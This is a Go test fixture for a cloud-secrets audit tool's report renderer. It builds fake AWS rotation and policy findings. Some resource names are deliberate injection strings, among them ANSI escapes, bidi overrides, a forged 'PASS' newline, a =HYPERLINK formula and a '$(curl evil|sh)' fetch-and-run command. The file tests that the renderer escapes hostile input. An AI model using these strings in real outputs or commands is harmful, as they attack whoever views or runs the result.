package reports_test

import (
	"strings"

	"github.com/keyproof/keyproof/model"
)

// Names as an attacker who may name resources would choose them.
const (
	hostileANSI    = "prod/\x1b[2J\x1b[31mgone\x07"
	hostileBidi    = "prod/\u202eyek-terces\u202c/\u2066x\u2069"
	hostileNewline = "prod/api\nPASS  all 52 results pass"
	hostileNUL     = "prod/nul\x00byte\u009b31m"
	hostileFormula = `=HYPERLINK("http://x","y")`
	hostileShell   = "$(curl evil|sh)"
	hostileCJK     = "本番環境/決済サービス/データベース接続パスワード"
	hostileEmoji   = "🔑/prød/clé-e\u0301té"
)

var hostileLong = "/platform/" + strings.Repeat("very-long-path-segment/", 40) + "token"

// res builds results in one line each.
type res struct {
	rule, name, account, region string
	status                      model.Status
	why                         []string
	unknown                     map[string]model.Unknown
	gap                         bool
}

func (s res) result(kind model.Kind) *model.Result {
	id := "arn:aws:secretsmanager:" + s.region + ":" + s.account + ":secret:" + s.name + "-Ab12Cd"
	if s.gap {
		id = "*"
	}
	r := &model.Result{Rule: model.RuleID(s.rule), Name: s.name, Status: s.status, Gap: s.gap, Unknown: s.unknown,
		Resource: model.ResourceID{Kind: kind, Account: s.account, Region: s.region, ID: id}}
	for _, w := range s.why {
		r.Findings = append(r.Findings, model.Finding{Message: w, Attribute: "policy"})
	}
	if s.status == model.StatusNotApplicable {
		r.NotApplicable = s.why
		r.Findings = nil
	}
	return r
}

var noKeyStatus = model.Unknown{Reason: model.ReasonAccessDenied, Action: "kms:GetKeyRotationStatus", Detail: "AccessDeniedException: not authorized"}

func theResults() []*model.Result {
	const fail, pass, unknown, na = model.StatusFail, model.StatusPass, model.StatusUnknown, model.StatusNotApplicable
	denied := map[string]model.Unknown{"resource.rotation_enabled": noKeyStatus, "resource.rotation_period_days": noKeyStatus}
	gap := map[string]model.Unknown{"resource": {Reason: model.ReasonAccessDenied, Action: "secretsmanager:ListSecrets"}}
	off := []string{"automatic rotation is off"}
	list := []res{
		{"SM-001", "prod/payments/stripe-api-key", shop, "us-east-1", fail, off, nil, false},
		{"SM-001", "prod/orders/postgres", shop, "us-east-1", pass, nil, nil, false},
		{"SM-001", "prod/search/opensearch", shop, "us-east-1", pass, nil, nil, false},
		{"SM-001", "rds!cluster-5c1e", shop, "us-east-1", na, []string{"RDS rotates it by itself"}, nil, false},
		{"SM-001", "stage/orders/postgres", shop, "eu-west-1", fail, off, nil, false},
		{"SM-001", hostileCJK, shop, "ap-northeast-1", fail, off, nil, false},
		{"SM-001", hostileLong, shop, "ap-northeast-1", fail, off, nil, false},
		{"SM-001", hostileEmoji, shop, "eu-west-1", fail, off, nil, false},
		{"SM-001", hostileBidi, shop, "eu-west-1", fail, off, nil, false},
		{"SM-002", "prod/orders/postgres", shop, "us-east-1", fail, []string{"rotates every 90 days, more than 30"}, nil, false},
		{"SM-002", "prod/search/opensearch", shop, "us-east-1", pass, nil, nil, false},
		{"SM-002", "stage/orders/postgres", shop, "eu-west-1", unknown, nil, map[string]model.Unknown{"resource.rotation_interval_days": {Reason: model.ReasonUnresolved, Detail: "${RotationSchedule}"}}, false},
		{"SM-004", "prod/orders/postgres", shop, "us-east-1", fail, []string{"version 1d8c has been AWSPENDING for 12 days: a rotation failed midway"}, nil, false},
		{"SM-004", "prod/search/opensearch", shop, "us-east-1", pass, nil, nil, false},
		{"SM-007", "prod/payments/stripe-api-key", shop, "us-east-1", pass, nil, nil, false},
		{"SM-007", hostileANSI, shop, "us-east-1", fail, []string{"the policy lets everyone read it: \"Principal\": \"*\" without a condition", "the statement Sid is \x1b[32mok\x1b[0m"}, nil, false},
		{"SM-007", hostileShell, shop, "us-east-1", fail, []string{"the policy lets account 999988887777, which is outside the organization, read the secret and change its policy"}, nil, false},
		{"SM-010", "prod/legacy/ftp", shop, "us-east-1", fail, []string{"last read 412 days ago, in any region"}, nil, false},
		{"SM-010", hostileNewline, shop, "us-east-1", fail, []string{"never read since it was created 200 days ago"}, nil, false},
		{"SM-010", "prod/orders/postgres", shop, "us-east-1", pass, nil, nil, false},
		{"SM-012", "prod/orders/postgres", shop, "us-east-1", fail, []string{"has no tag owner"}, nil, false},
		{"SSM-001", "/shop/prod/db_password", shop, "us-east-1", fail, []string{"type String holds what looks like a generic password"}, nil, false},
		{"SSM-001", "/shop/prod/log_level", shop, "us-east-1", pass, nil, nil, false},
		{"SSM-001", hostileFormula, shop, "us-east-1", fail, []string{"type StringList holds what looks like an AWS access key"}, nil, false},
		{"SSM-001", hostileNUL, shop, "us-east-1", pass, nil, nil, false},
		{"KMS-001", "alias/shop-payments", shop, "us-east-1", pass, nil, nil, false},
		{"KMS-001", "alias/shop-orders", shop, "us-east-1", pass, nil, nil, false},
		{"KMS-001", "alias/imported", shop, "us-east-1", na, []string{"KMS cannot rotate imported key material"}, nil, false},
		{"KMS-001", "alias/audit-logs", audit, "eu-west-1", unknown, nil, denied, false},
		{"KMS-001", "alias/audit-archive", audit, "eu-west-1", unknown, nil, denied, false},
		{"KMS-001", "alias/audit-reports", audit, "eu-west-1", unknown, nil, denied, false},
		{"KMS-001", "alias/audit-backup", audit, "us-east-1", unknown, nil, denied, false},
		{"KMS-002", "alias/shop-payments", shop, "us-east-1", pass, nil, nil, false},
		{"KMS-002", "alias/shop-orders", shop, "us-east-1", pass, nil, nil, false},
		{"CT-001", "org-trail", audit, "us-east-1", pass, nil, nil, false},
		{"LMB-001", "rotate-postgres", shop, "us-east-1", pass, nil, nil, false},
		{"LMB-001", "thumbnailer", shop, "us-east-1", unknown, nil, map[string]model.Unknown{"resource.environment": {Reason: model.ReasonFailed, Action: "lambda:GetFunctionConfiguration", Detail: "throttled after 8 attempts"}}, false},
		{"RDS-001", "orders", shop, "us-east-1", pass, nil, nil, false},
		{"RDS-001", "legacy-crm", shop, "us-east-1", pass, nil, nil, false},
	}
	for _, id := range []string{"SM-001", "SM-002", "SM-004", "SM-007", "SM-010"} {
		list = append(list, res{id, "*", audit, "eu-west-1", unknown, nil, gap, true})
	}
	kinds := map[string]model.Kind{"SM": model.KindSecret, "SSM": model.KindParameter, "KMS": model.KindKey, "CT": model.KindTrail, "LMB": model.KindFunction, "RDS": model.KindDatabase}
	var results []*model.Result
	for _, s := range list {
		service, _, _ := strings.Cut(s.rule, "-")
		results = append(results, s.result(kinds[service]))
	}
	return results
}
